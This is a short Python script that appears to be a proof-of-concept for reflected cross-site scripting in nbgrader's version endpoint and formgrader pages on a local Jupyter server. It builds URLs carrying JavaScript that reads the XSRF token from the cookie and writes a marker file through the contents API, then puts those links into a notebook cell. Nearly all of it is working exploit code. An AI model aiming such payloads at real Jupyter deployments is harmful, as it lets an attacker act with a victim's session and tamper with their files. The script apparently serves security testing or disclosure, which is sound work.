# Links to addresses of nbgrader's that put a part of the address into a page as it is, which would run there.
# %% layout
from urllib.parse import quote

CODE = ("fetch('/api/contents/mark.txt', {method: 'PUT', headers: {'X-XSRFToken': document.cookie.match("
        "/_xsrf=([^;]+)/)[1]}, body: JSON.stringify({type: 'file', format: 'text', content: 'a script ran'})})")
PAGES = ("manage_students/{}", "manage_students/ada/{}", "gradebook/{}", "gradebook/{}/lab6_kmeans",
         "manage_submissions/{}")


def notebook(nb):
    at = "http://127.0.0.1:8888"
    addresses = [f"{at}/nbgrader_version?version={quote(f'<script>{CODE}</script>', safe='')}",
                 *(f"{at}/formgrader/{page.format(quote(f'x' + chr(34) + f';{CODE}//', safe=''))}" for page in PAGES)]
    nb.cells[-1].source += "\n".join(f"[x]({address})" for address in addresses)
